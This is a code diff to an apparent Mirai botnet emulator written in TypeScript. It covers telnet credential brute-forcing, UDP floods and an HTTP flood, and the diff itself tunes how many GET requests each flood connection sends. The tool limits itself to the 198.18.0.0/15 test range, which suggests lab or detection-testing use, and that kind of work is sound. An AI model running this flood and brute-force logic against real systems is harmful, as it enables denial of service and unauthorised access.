@@ -5,7 +5,7 @@
  *     telnet logins with Mirai's credential table (one credential per connection, as its scanner does); on a shell
  *     it types Mirai's loader probes and reports the login to the report server (TCP 48101), then leaves the host.
  *   mirai.ts udp --target IP --pps R --seconds S        "udpplain": connected UDP sockets, 512 random bytes
- *   mirai.ts http --target IP --conns N --seconds S     "http": keep-alive GETs with Mirai's user agents
+ *   mirai.ts http --target IP --conns N --seconds S     "http": 1–5 keep-alive GETs per connection with Mirai's user agents
  *
  * Bounded by --seconds (and --attempts); refuses targets outside 198.18.0.0/15.
  */
@@ -142,8 +142,11 @@ async function httpFlood(target: string, conns: number, until: number): Promise<
     new Promise<void>((resolve) => {
       const s = connect(80, target);
       let inFlight = 0;
+      // A connection carries a few requests, then the bot opens a new one (a new flow each time).
+      let left = 1 + Math.floor(Math.random() * 5);
       const send = () => {
         if (Date.now() >= until || inFlight > 0) return;
+        if (left-- <= 0) return void s.end();
         const ua = USER_AGENTS[Math.floor(Math.random() * USER_AGENTS.length)];
         s.write(`GET / HTTP/1.1\r\nUser-Agent: ${ua}\r\nHost: ${target}\r\nConnection: keep-alive\r\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.8\r\n\r\n`);
         inFlight++;
